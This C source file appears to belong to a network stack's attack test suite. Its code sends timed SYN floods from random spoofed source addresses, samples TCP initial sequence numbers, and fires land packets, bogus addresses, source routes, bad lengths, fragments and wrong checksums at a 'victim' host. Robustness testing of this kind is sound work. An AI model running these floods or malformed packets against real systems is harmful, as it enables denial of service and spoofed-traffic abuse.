/*
 * Without a connection: SYN floods, what is wrong in itself, sequence numbers.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tests/attack/raw.h"

/* What Linux asks for: MSS 1460, SACK, timestamps, scale 7. */
static const uint8_t syn_options[20] = { 2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7 };

static void
syn(struct raw *r, uint32_t from, uint16_t port)
{
	struct raw_seg s = { .from = from, .to = r->victim, .from_port = port, .to_port = r->port,
		.seq = (uint32_t)raw_random(r), .flags = RAW_SYN, .window = 64240, .options = syn_options,
		.options_len = sizeof(syn_options) };

	raw_tcp(r, &s);
}

/* Unicast: 1.0.0.0 to 223.255.255.255, but not 10/8 and 127/8. */
static uint32_t
source(struct raw *r)
{
	uint32_t a;

	do
		a = 0x01000000u + raw_below(r, 0xde000000u);
	while (a >> 24 == 10 || a >> 24 == 127);
	return a;
}

int
attack_flood(struct raw *r, char **arg)
{
	uint64_t begin = raw_now_ms();
	uint64_t end = begin + 1000 * strtoull(arg[0], NULL, 10);

	while (raw_now_ms() < end)
		for (uint32_t i = 0; i < RAW_BATCH; i++)
			syn(r, source(r), (uint16_t)(1024 + raw_below(r, 60000)));
	printf("sent %llu SYNs, %llu bytes, %llu per second\n", (unsigned long long)r->sent,
	    (unsigned long long)r->bytes, (unsigned long long)(r->sent * 1000 / (raw_now_ms() - begin + 1)));
	return 0;
}

/* Whoever has the address resets each answer. */
int
attack_isn(struct raw *r, char **arg)
{
	uint32_t count = (uint32_t)strtoul(arg[0], NULL, 10), got = 0;
	uint8_t buf[RAW_FRAME];

	for (uint32_t i = 0; i < count; i++) {
		uint16_t port = (uint16_t)(20000 + i);
		uint64_t end = raw_now_ms() + 2000;
		bool sent, heard = false;
		struct raw_seg s;
		uint32_t n;

		syn(r, r->self, port);
		raw_flush(r);
		while (!heard && raw_now_ms() < end) {
			n = raw_recv(r, buf, sizeof(buf), 100, &sent);
			heard = n > 0 && !sent && raw_read(buf, n, &s) && s.to_port == port && (s.flags & RAW_SYN);
		}
		if (heard) {
			printf("%u\n", s.seq);
			got++;
		}
	}
	return got * 10 < count * 9;
}

/* ---- what is wrong in itself ---- */

static void
lie(struct raw *r, uint32_t n)
{
	static const uint32_t bad[] = { 0, 0xffffffffu, 0xe0000001u, 0x7f000001u, 0xf0000001u };
	uint8_t options[40];
	struct raw_seg s = { .from = r->self, .to = r->victim, .from_port = (uint16_t)raw_random(r),
		.to_port = r->port, .seq = (uint32_t)raw_random(r), .ack = (uint32_t)raw_random(r),
		.flags = (uint8_t)raw_random(r), .window = (uint16_t)raw_random(r) };

	for (uint32_t i = 0; i < sizeof(options); i++)
		options[i] = (uint8_t)(raw_below(r, 3) == 0 ? raw_below(r, 9) : raw_random(r));
	switch (n % 6) {
	case 0: /* land */
		s.from = s.to;
		s.from_port = s.to_port;
		s.flags = RAW_SYN;
		break;
	case 1:
		s.from = n % 4 == 0 ? (r->victim | 0xffu) : bad[raw_below(r, 5)];
		s.flags = RAW_SYN;
		break;
	case 2:
		s.offset = (uint8_t)(1 + raw_below(r, 15));
		break;
	case 3: /* options */
		s.options = options;
		s.options_len = 4 * (1 + raw_below(r, 10));
		s.flags = RAW_SYN;
		s.from = (r->victim & ~0xffu) | 62u;
		break;
	case 4:
		s.urgent = (uint16_t)raw_random(r);
		s.flags |= RAW_URG;
		s.data = options;
		s.data_len = raw_below(r, 40);
		break;
	default: /* to a group, or to everybody */
		s.to = raw_below(r, 2) ? 0xe0000001u : (r->victim | 0xffu);
		s.flags = RAW_SYN;
		break;
	}
	raw_tcp(r, &s);
}

/* A source route, a header or a packet of another length than it says, a sum that is
 * wrong. */
static void
broken(struct raw *r, uint32_t n)
{
	uint8_t *frame = raw_next(r);
	uint8_t *ip = frame + RAW_ETH;
	uint32_t len = 60 + raw_below(r, 100);
	uint8_t *t = raw_ip(r, frame, r->self, r->victim, 6, len);

	for (uint32_t i = 0; i < len; i++)
		t[i] = (uint8_t)raw_random(r);
	switch (n % 5) {
	case 0: /* loose source route: RFC 791 section 3.1 */
		ip[0] = 0x47;
		memcpy(t, (uint8_t[8]){ 131, 7, 4, 10, 77, 0, 9, 0 }, 8);
		break;
	case 1:
		ip[0] = (uint8_t)(0x40 | raw_below(r, 16));
		break;
	case 2:
		raw_put16(ip + 2, raw_below(r, 65536));
		break;
	case 3: /* a fragment */
		raw_put16(ip + 6, 0x2000 | raw_below(r, 0x2000));
		break;
	default:
		break;
	}
	raw_put16(ip + 10, 0);
	raw_put16(ip + 10, n % 7 == 0 ? raw_below(r, 65536) : raw_sum(ip, (ip[0] & 15u) * 4u, 0));
	raw_push(r, RAW_ETH + 20 + len);
}

int
attack_junk(struct raw *r, char **arg)
{
	uint32_t count = (uint32_t)strtoul(arg[0], NULL, 10);

	for (uint32_t i = 0; i < count; i++) {
		if (i % 3 == 0)
			broken(r, i / 3);
		else
			lie(r, i - i / 3);
	}
	raw_flush(r);
	printf("sent %llu\n", (unsigned long long)r->sent);
	return 0;
}
